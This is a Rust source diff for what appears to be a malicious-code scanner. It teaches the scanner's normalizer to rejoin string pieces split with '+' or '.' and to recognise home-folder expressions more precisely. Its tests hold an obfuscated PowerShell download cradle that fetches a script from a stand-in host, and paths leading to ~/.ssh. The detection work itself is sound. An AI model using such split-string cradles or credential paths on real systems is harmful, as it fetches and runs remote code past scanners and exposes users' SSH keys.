@@ -542,6 +542,10 @@ static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
         r#"(?m)(?:^|;)\s*(?:(?:let|const|var|set|local|export)\s+)?"?\$?([A-Za-z_]\w*)\s*=\s*(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#,
     )
 });
+/// One more quoted piece joined by `+` (or a spaced `.`) at the start of
+/// the rest of an assignment's line.
+static JOINED_PIECE: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"^[ \t]*(?:\+|[ \t]\.)[ \t]*(?:'([^'\n]*)'|"([^"\n]*)")"#));
 /// The further assignments of a shell declaration (`local a=cu b=rl`).
 static DECLARATION: LazyLock<Regex> =
     LazyLock::new(|| regex(r"(?m)^\s*(?:local|declare(?:\s+-\w+)*|export|readonly)\s+([^\n]+)"));
@@ -914,7 +918,15 @@ fn assignments(whole: &str, expressions: bool) -> HashMap<String, String> {
     // In file order: a batch file's `set h=%h%.com` grows what it had.
     let mut values: HashMap<String, String> = HashMap::new();
     for c in ASSIGNMENT.captures_iter(whole) {
-        let value = value(&c, 2) + &adjacent_pieces(&whole[c.get(0).map_or(0, |m| m.end())..]);
+        let rest = &whole[c.get(0).map_or(0, |m| m.end())..];
+        let quoted = c.get(4).is_none();
+        let value = value(&c, 2)
+            + &adjacent_pieces(rest)
+            + &(if quoted {
+                joined_pieces(rest)
+            } else {
+                String::new()
+            });
         let value = if value.contains('%') {
             batch_expanded(&value, &values)
         } else {
@@ -1006,6 +1018,20 @@ fn adjacent_pieces(rest: &str) -> String {
     out
 }
 
+/// The quoted pieces an operator joins to a quoted assignment's value on
+/// its line (`$f = 'Do' + 'wnl' + 'oadString'`, PHP's `'cu' . 'rl'`):
+/// code85, a name whose value is assembled reads as the whole of it where
+/// it is used, lines below.
+fn joined_pieces(rest: &str) -> String {
+    let mut out = String::new();
+    let mut rest = rest;
+    while let Some(c) = JOINED_PIECE.captures(rest) {
+        out.push_str(c.get(1).or(c.get(2)).map_or("", |m| m.as_str()));
+        rest = &rest[c.get(0).map_or(rest.len(), |m| m.end())..];
+    }
+    out
+}
+
 /// `text` with each tight `.` join ([`DOT_OPERAND`]) spaced out.
 fn spaced_dots(text: &str) -> String {
     let mut out = String::with_capacity(text.len() + 8);
@@ -1059,11 +1085,7 @@ fn joined_list(items: &str, separator: &str, values: &HashMap<String, String>) -
             if let Some(value) = values.get(part) {
                 return value.clone();
             }
-            // The user's home, however the language asks for it
-            // (`process.env.HOME`, `os.homedir()`, `Path.home()`).
-            if !part.starts_with(['\'', '"'])
-                && (part.contains("HOME") || part.contains("homedir()") || part.ends_with("home()"))
-            {
+            if !part.starts_with(['\'', '"']) && names_home(part) {
                 return "~".to_owned();
             }
             LITERAL
@@ -1074,6 +1096,24 @@ fn joined_list(items: &str, separator: &str, values: &HashMap<String, String>) -
         })
         .collect();
     format!("\"{}\"", resolved.join(separator))
+}
+
+/// Whether an expression is the user's home, however the language asks
+/// for it (`process.env.HOME`, `os.environ["USERPROFILE"]`, `os.homedir()`,
+/// `Path.home()`). code85: `HOME` counts only as a whole name, since
+/// `CARGO_HOME`, `JAVA_HOME` or `HOMEBREW_PREFIX` name other folders.
+fn names_home(part: &str) -> bool {
+    let whole_name = |name: &str| {
+        part.match_indices(name).any(|(at, _)| {
+            let name_byte = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
+            !part.as_bytes()[..at].last().is_some_and(name_byte)
+                && !part.as_bytes().get(at + name.len()).is_some_and(name_byte)
+        })
+    };
+    part.contains("homedir()")
+        || part.ends_with("home()")
+        || whole_name("HOME")
+        || whole_name("USERPROFILE")
 }
 
 /// `text` as it reads ([`fold`]); ASCII reads as itself, and is copied
@@ -1175,6 +1215,43 @@ mod tests {
         let crlf = format!("# head\r\n\r\n{}", text.replace('\n', "\r\n"));
         let shifted: Vec<(usize, String)> = decoded.into_iter().map(|(l, d)| (l + 2, d)).collect();
         assert_eq!(decoded_literals(&crlf), shifted);
+    }
+
+    #[test]
+    fn a_name_given_joined_pieces_reads_whole_where_it_is_used() {
+        // code85: PowerShell's method name and address in pieces, used by
+        // name two lines below.
+        let whole = "$m = 'Down' + 'load' + 'String'\n$u = 'https://' + 'x.example.com/i.ps1'\n$c = New-Object Net.WebClient\n$b = $c.$m($u)\n";
+        let used = normalize_with("$b = $c.$m($u)", whole);
+        assert!(
+            used.contains("DownloadString(https://x.example.com/i.ps1)"),
+            "{used}"
+        );
+        // A piece joined to a name (`'a' + $x`) is no literal join.
+        assert_eq!(assignments("$p = 'C:' + $root\n", false)["p"], "C:");
+    }
+
+    #[test]
+    fn only_the_home_variables_read_as_the_home() {
+        // code85: a joined path under `CARGO_HOME` is not the user's home.
+        let values = HashMap::new();
+        for home in [
+            "process.env.HOME",
+            "os.environ['USERPROFILE']",
+            "os.homedir()",
+            "Path.home()",
+        ] {
+            assert_eq!(
+                joined_list(&format!("{home}, '.ssh'"), "/", &values),
+                "\"~/.ssh\""
+            );
+        }
+        for other in ["process.env.CARGO_HOME", "env.JAVA_HOME", "HOMEBREW_PREFIX"] {
+            assert_ne!(
+                joined_list(&format!("{other}, '.ssh'"), "/", &values),
+                "\"~/.ssh\""
+            );
+        }
     }
 
     #[test]
